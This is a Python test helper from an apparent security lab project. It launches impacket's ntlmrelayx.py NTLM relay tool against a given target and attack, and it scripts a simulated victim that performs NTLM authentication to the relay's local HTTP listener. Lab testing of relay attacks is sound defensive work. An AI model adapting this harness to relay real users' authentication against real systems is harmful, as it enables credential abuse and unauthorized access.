"""Running impacket's ntlmrelayx.py (unmodified, as a subprocess) and a victim that authenticates to it."""

from __future__ import annotations

import base64
import http.client
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
import spnego

from cmglab.runtime.sockets import free_port_now
from cmglab.tools.reliability import transport

QUIET = [
    "--no-smb-server",
    "--no-wcf-server",
    "--no-raw-server",
    "--no-rpc-server",
    "--no-winrm-server",
    "--no-mssql-server",
    "--no-rdp-server",
]


def ntlmrelayx() -> str:
    tool = shutil.which("ntlmrelayx.py", path=str(Path(sys.executable).parent)) or shutil.which("ntlmrelayx.py")
    if tool is None:
        pytest.fail("ntlmrelayx.py (impacket, in the test extra) is not installed")
    return tool


def wait_listening(port: int, proc: subprocess.Popen[bytes], deadline: float, out: Path) -> bool:
    """Until ntlmrelayx itself listens on PORT (by its own descriptors: a connection would also succeed on
    another program that took the port first); False if its bind found the port taken."""
    while time.monotonic() < deadline:
        if transport.listens_itself(proc.pid, port):
            return True
        if "Address already in use" in out.read_text(errors="replace"):
            return False
        if proc.poll() is not None:
            pytest.fail(f"ntlmrelayx exited with {proc.returncode}")
        time.sleep(0.1)
    pytest.fail("ntlmrelayx's HTTP listener did not come up")


def victim_authenticates(port: int, user: str, password: str) -> int:
    """A Windows client's NTLM over HTTP to the attacker's server: 401 → negotiate → challenge → authenticate."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request("GET", "/")
        first = conn.getresponse()
        first.read()
        assert first.status == 401 and "NTLM" in (first.getheader("WWW-Authenticate") or "")
        ctx = spnego.client(user, password, hostname="attacker", service="HTTP", protocol="ntlm")
        conn.request("GET", "/", headers={"Authorization": "NTLM " + base64.b64encode(ctx.step() or b"").decode()})
        challenge = conn.getresponse()
        challenge.read()
        value = challenge.getheader("WWW-Authenticate") or ""
        assert challenge.status == 401 and value.startswith("NTLM "), (challenge.status, value)
        token = ctx.step(base64.b64decode(value.split(" ", 1)[1])) or b""
        conn.request("GET", "/", headers={"Authorization": "NTLM " + base64.b64encode(token).decode()})
        final = conn.getresponse()
        final.read()
        return final.status
    finally:
        conn.close()


def stop(proc: subprocess.Popen[bytes]) -> None:
    if proc.poll() is None:
        proc.terminate()
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


ATTEMPTS = 3  # ports tried: one is free when picked, and another program may take it before ntlmrelayx binds it


def relay(tmp_path: Path, target: str, attack: list[str], victim: str, password: str, *, timeout: float) -> str:
    """Run `ntlmrelayx.py -t TARGET ATTACK...` unmodified, have `victim` authenticate to its HTTP listener, and
    return what the tool printed once it says the attack finished (or logged an error, or `timeout` passed)."""
    out = tmp_path / "ntlmrelayx.out"
    deadline = time.monotonic() + timeout
    for _ in range(ATTEMPTS):
        http_port = free_port_now()  # ntlmrelayx binds its listener itself: it cannot be handed a socket
        with out.open("wb") as sink:
            proc = subprocess.Popen(
                [ntlmrelayx(), "-t", target, *attack, "-ip", "127.0.0.1", "--http-port", str(http_port), *QUIET],
                cwd=tmp_path,
                stdin=subprocess.PIPE,
                stdout=sink,
                stderr=subprocess.STDOUT,
            )
        try:
            if not wait_listening(http_port, proc, deadline, out):
                continue  # taken before ntlmrelayx bound it: another port
            victim_authenticates(http_port, victim, password)
            while time.monotonic() < deadline and proc.poll() is None:
                so_far = out.read_text(errors="replace")
                if "DONE - attack finished" in so_far or "[-]" in so_far:  # finished, or the attack logged an error
                    break
                time.sleep(0.2)
            return out.read_text(errors="replace")
        finally:
            stop(proc)
    pytest.fail(f"ntlmrelayx found its HTTP port taken {ATTEMPTS} times:\n{out.read_text(errors='replace')}")
